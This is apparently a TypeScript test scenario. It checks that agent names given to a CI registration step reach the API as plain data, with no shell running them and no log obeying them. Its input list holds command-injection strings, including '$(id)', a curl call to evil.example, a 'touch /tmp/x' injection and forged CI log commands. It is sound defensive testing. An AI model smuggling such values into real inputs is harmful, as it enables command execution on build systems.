import assert from 'node:assert/strict'
import { assertFailed, scenario } from './world.ts'

scenario('A-248: a name is data: no shell sees it, and the log does not obey it', async w => {
  await w.trust({ branch: 'main' })
  const names = ['$(id)@ci.acme.example', '`id`', '";curl evil.example;"', 'a\n::error::gone', '::set-output name=agent-id::x', '##[error]x', '{"name":"x"}', "'; touch /tmp/x; '"]
  for (const name of names) {
    const before = w.sent.length
    const step = await w.registerAgent({ 'agent-name': name, 'agent-description': name })
    const registration = w.sent.slice(before).find(({ path }) => path === '/api/v1/agents')
    assert.deepEqual(JSON.parse(registration?.body ?? ''), { name, description: name })
    assertFailed(step, 'Invalid request')
  }
})
